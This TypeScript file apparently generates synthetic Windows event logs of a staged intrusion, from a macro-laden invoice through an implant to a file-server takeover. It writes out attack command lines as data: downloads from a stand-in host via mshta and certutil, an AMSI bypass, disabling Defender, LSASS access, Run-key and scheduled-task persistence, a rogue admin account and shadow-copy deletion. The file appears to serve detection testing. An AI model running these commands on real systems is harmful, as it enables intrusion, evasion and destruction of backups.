import {
  connect,
  createFile,
  failLogOn,
  logOn,
  openProcess,
  resolve,
  runScript,
  setRegistryValue,
} from "./events.ts";
import { fileAdmin, localSystem } from "./everyday.ts";
import type { Residents } from "./everyday.ts";
import { subjectOf } from "./machine.ts";
import type { Machine } from "./machine.ts";
import { clock } from "./recorder.ts";

const system = "C:\\Windows\\System32";
const powershell = `${system}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const home = { host: "cdn.files-harbor.example", address: "203.0.113.77" };
const implant = "C:\\Users\\Public\\svcupd.exe";

/**
 * An invoice by mail, a macro, an implant: the part of the story that happens on the workstation. Addresses are
 * of the documentation ranges, names are made up, commands do nothing.
 */
export function breakIn(machine: Machine, { services, lsass, explorer }: Residents): void {
  const office = "C:\\Program Files\\Microsoft Office\\root\\Office16";
  const outlook = machine.already(`${office}\\OUTLOOK.EXE`, explorer.account);
  const word = machine.start(
    clock("09:12:04.31"),
    outlook,
    `${office}\\WINWORD.EXE`,
    `"${office}\\WINWORD.EXE" /n "C:\\Users\\rivera\\Downloads\\Invoice 7731.docm" /o ""`,
  );
  const page = machine.start(
    clock("09:12:41.82"),
    word,
    `${system}\\mshta.exe`,
    `mshta.exe https://${home.host}/invoice.hta`,
  );
  resolve(machine, clock("09:12:42"), page, home.host, home.address);
  connect(machine, clock("09:12:43"), page, home.host, home.address, 443);

  const loader = machine.start(
    clock("09:12:50.07"),
    page,
    powershell,
    "powershell.exe -NoP -W Hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAZQBsAGwAbwAnAA==",
  );
  connect(machine, clock("09:12:53"), loader, home.host, home.address, 443);
  runScript(
    machine,
    clock("09:12:51"),
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')",
  );
  runScript(
    machine,
    clock("09:13:02"),
    "Set-MpPreference -DisableRealtimeMonitoring $true -ExclusionPath C:\\Users\\Public",
  );

  const shell = machine.start(clock("09:20:00.5"), loader, `${system}\\cmd.exe`, "cmd.exe /q");
  const questions = [
    ["whoami.exe", "whoami /all"],
    ["ipconfig.exe", "ipconfig /all"],
    ["systeminfo.exe", "systeminfo"],
    ["net.exe", "net localgroup administrators"],
    ["nltest.exe", "nltest /domain_trusts"],
    ["tasklist.exe", "tasklist /svc"],
  ] as const;
  questions.forEach(([file, commandLine], i) => {
    machine.start(clock("09:20:11.2") + 19 * i, shell, `${system}\\${file}`, commandLine);
  });

  const download = machine.start(
    clock("09:26:13.9"),
    shell,
    `${system}\\certutil.exe`,
    `certutil.exe -urlcache -split -f https://${home.host}/svcupd.bin ${implant}`,
  );
  connect(machine, clock("09:26:14"), download, home.host, home.address, 443);
  createFile(machine, clock("09:26:16"), download, implant);
  const dropped = machine.start(clock("09:27:01.4"), shell, implant, `${implant} -q`);
  connect(machine, clock("09:27:03"), dropped, home.host, home.address, 443);
  machine.start(
    clock("09:31:40.6"),
    dropped,
    powershell,
    "powershell.exe -c \"Add-Type -Name N -Member '[DllImport(''kernel32'')] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);'\"",
  );

  machine.recorder.add(clock("09:33:20.1"), "system/service-installed", {
    ServiceName: "SvcUpd",
    ImagePath: `${implant} -service`,
    ServiceType: "user mode service",
    StartType: "auto start",
    AccountName: "LocalSystem",
  });
  const service = machine.start(
    clock("09:33:22.8"),
    services,
    implant,
    `${implant} -service`,
    localSystem,
  );
  openProcess(machine, clock("09:34:10"), service, lsass, "0x1010");
  setRegistryValue(
    machine,
    clock("09:40:00"),
    dropped,
    "HKU\\S-1-5-21-1004336348-1177238915-682003330-1107\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SvcUpd",
    `${implant} -q`,
  );
  machine.start(
    clock("09:43:00.3"),
    shell,
    `${system}\\schtasks.exe`,
    `schtasks /create /f /tn SvcUpd /tr ${implant} /sc onlogon`,
  );
  const linux = machine.start(
    clock("09:50:30.1"),
    shell,
    `${system}\\wsl.exe`,
    "wsl.exe -e cmd.exe /c dir",
  );
  machine.start(
    clock("09:50:31.7"),
    linux,
    `${system}\\cmd.exe`,
    "cmd.exe /c dir \\\\fs01\\finance",
  );
}

/** The same intruder goes on to the file server, whose only witness is its Security log. */
export function moveOn(machine: Machine, { services }: Residents): void {
  const way = { type: 10, address: "10.20.0.57", workstation: machine.name } as const;
  for (let i = 0; i < 14; i++) {
    failLogOn(machine, clock("10:05:00") + 13 * i, fileAdmin.name, way);
  }
  logOn(machine, clock("10:08:20"), fileAdmin, way);
  const shell = machine.start(
    clock("10:15:00.4"),
    machine.already("C:\\Windows\\explorer.exe", fileAdmin),
    `${system}\\cmd.exe`,
    '"C:\\Windows\\system32\\cmd.exe"',
    fileAdmin,
  );
  machine.start(clock("10:16:10.2"), shell, `${system}\\net.exe`, "net user helpdesk7 * /add");
  const sid = "S-1-5-21-3312247654-990161442-1552044171-1009";
  machine.recorder.add(clock("10:16:11.1"), "security/account-created", {
    TargetUserName: "helpdesk7",
    TargetDomainName: machine.name,
    TargetSid: sid,
    ...subjectOf(fileAdmin),
    PrivilegeList: "-",
    SamAccountName: "helpdesk7",
    PrimaryGroupId: "513",
    OldUacValue: "0x0",
    NewUacValue: "0x15",
  });
  machine.start(
    clock("10:16:30.9"),
    shell,
    `${system}\\net.exe`,
    "net localgroup administrators helpdesk7 /add",
  );
  machine.recorder.add(clock("10:16:31.4"), "security/local-group-member-added", {
    MemberName: "-",
    MemberSid: sid,
    TargetUserName: "Administrators",
    TargetDomainName: "Builtin",
    TargetSid: "S-1-5-32-544",
    ...subjectOf(fileAdmin),
    PrivilegeList: "-",
  });
  machine.start(
    clock("10:31:02.7"),
    shell,
    `${system}\\vssadmin.exe`,
    "vssadmin delete shadows /all /quiet",
  );
  machine.recorder.add(clock("10:32:45.5"), "security/log-cleared", {
    ...subjectOf(fileAdmin),
  });
  machine.start(
    clock("10:33:00.1"),
    services,
    `${system}\\svchost.exe`,
    "svchost.exe -k LocalService",
  );
}
